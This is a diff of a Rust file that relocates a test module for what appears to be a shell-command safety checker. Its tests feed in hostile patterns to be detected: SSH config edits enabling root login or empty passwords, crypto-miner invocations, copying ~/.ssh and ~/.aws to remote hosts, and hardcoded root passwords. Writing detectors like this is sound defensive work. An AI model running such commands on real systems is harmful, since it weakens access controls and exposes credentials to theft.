@@ -514,80 +514,6 @@ pub(super) fn unparsed_sends_stdin(name: &str, args: &[&str]) -> Option<String> 
     (reads && sends).then(|| format!("{name} {flag}"))
 }
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn sed_writes_only_its_replacements() {
-        assert!(
-            weakening_write(
-                "/etc/ssh/sshd_config",
-                "s/^#\\?PermitRootLogin.*/PermitRootLogin yes/",
-                true
-            )
-            .is_some()
-        );
-        assert!(
-            weakening_write(
-                "/etc/ssh/sshd_config",
-                "s/^PermitRootLogin yes/PermitRootLogin no/",
-                true
-            )
-            .is_none()
-        );
-        assert!(
-            weakening_write(
-                "/etc/ssh/sshd_config.d/50.conf",
-                "PermitEmptyPasswords yes",
-                false
-            )
-            .is_some()
-        );
-        assert!(weakening_write("/tmp/sshd_config", "PermitRootLogin yes", false).is_none());
-    }
-
-    #[test]
-    fn miners_by_pool_url_or_pool_wallet_and_algorithm() {
-        assert!(
-            mines(
-                "pb",
-                &[
-                    "--algo",
-                    "rx/0",
-                    "-o",
-                    "stratum+tcp://pool.example:3333",
-                    "-u",
-                    "48W"
-                ]
-            )
-            .is_some()
-        );
-        assert!(mines("x", &["-a", "rx/0", "-o", "pool.example:443", "-u", "48W"]).is_some());
-        assert!(mines("xmrig", &["-o", "pool.example:443", "-u", "48W"]).is_some());
-        assert!(mines("gcc", &["-o", "out", "-u", "main", "x.c"]).is_none());
-        assert!(mines("docker", &["run", "-u", "1000", "-o", "x"]).is_none());
-        assert!(mines("xmrig", &["--version"]).is_none());
-    }
-
-    #[test]
-    fn remote_copy_needs_a_host() {
-        assert!(names_remote(&["-az", "~/.ssh", "snap@h.example:/srv/"]));
-        assert!(names_remote(&["~/.aws", "rsync://h.example/m"]));
-        assert!(!names_remote(&["-a", "~/.ssh/", "/mnt/backup/"]));
-        assert!(!names_remote(&["C:\\x", "./out"]));
-        assert!(copies_out("rclone", &["copy", "~/.ssh", "gdrive:backup"]));
-        assert!(!copies_out("rclone", &["copy", "~/.ssh", "/mnt/b"]));
-    }
-
-    #[test]
-    fn root_passwords_written_in_the_program() {
-        assert!(root_password("chpasswd", &[], "root:Tw-support-2026!").is_some());
-        assert!(root_password("chpasswd", &[], "root:$PW").is_none());
-        assert!(root_password("chpasswd", &[], "dev:dev").is_none());
-    }
-}
-
 /// Environment variables a shell or Windows session always sets: deleting their contents is
 /// never the root's.
 const ALWAYS_SET: &[&str] = &[
@@ -666,4 +592,78 @@ pub(crate) fn stops_on_unset(script: &Script) -> bool {
                 t == "nounset" || t.starts_with('-') && !t.starts_with("--") && t.contains('u')
             })
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn sed_writes_only_its_replacements() {
+        assert!(
+            weakening_write(
+                "/etc/ssh/sshd_config",
+                "s/^#\\?PermitRootLogin.*/PermitRootLogin yes/",
+                true
+            )
+            .is_some()
+        );
+        assert!(
+            weakening_write(
+                "/etc/ssh/sshd_config",
+                "s/^PermitRootLogin yes/PermitRootLogin no/",
+                true
+            )
+            .is_none()
+        );
+        assert!(
+            weakening_write(
+                "/etc/ssh/sshd_config.d/50.conf",
+                "PermitEmptyPasswords yes",
+                false
+            )
+            .is_some()
+        );
+        assert!(weakening_write("/tmp/sshd_config", "PermitRootLogin yes", false).is_none());
+    }
+
+    #[test]
+    fn miners_by_pool_url_or_pool_wallet_and_algorithm() {
+        assert!(
+            mines(
+                "pb",
+                &[
+                    "--algo",
+                    "rx/0",
+                    "-o",
+                    "stratum+tcp://pool.example:3333",
+                    "-u",
+                    "48W"
+                ]
+            )
+            .is_some()
+        );
+        assert!(mines("x", &["-a", "rx/0", "-o", "pool.example:443", "-u", "48W"]).is_some());
+        assert!(mines("xmrig", &["-o", "pool.example:443", "-u", "48W"]).is_some());
+        assert!(mines("gcc", &["-o", "out", "-u", "main", "x.c"]).is_none());
+        assert!(mines("docker", &["run", "-u", "1000", "-o", "x"]).is_none());
+        assert!(mines("xmrig", &["--version"]).is_none());
+    }
+
+    #[test]
+    fn remote_copy_needs_a_host() {
+        assert!(names_remote(&["-az", "~/.ssh", "snap@h.example:/srv/"]));
+        assert!(names_remote(&["~/.aws", "rsync://h.example/m"]));
+        assert!(!names_remote(&["-a", "~/.ssh/", "/mnt/backup/"]));
+        assert!(!names_remote(&["C:\\x", "./out"]));
+        assert!(copies_out("rclone", &["copy", "~/.ssh", "gdrive:backup"]));
+        assert!(!copies_out("rclone", &["copy", "~/.ssh", "/mnt/b"]));
+    }
+
+    #[test]
+    fn root_passwords_written_in_the_program() {
+        assert!(root_password("chpasswd", &[], "root:Tw-support-2026!").is_some());
+        assert!(root_password("chpasswd", &[], "root:$PW").is_none());
+        assert!(root_password("chpasswd", &[], "dev:dev").is_none());
+    }
 }
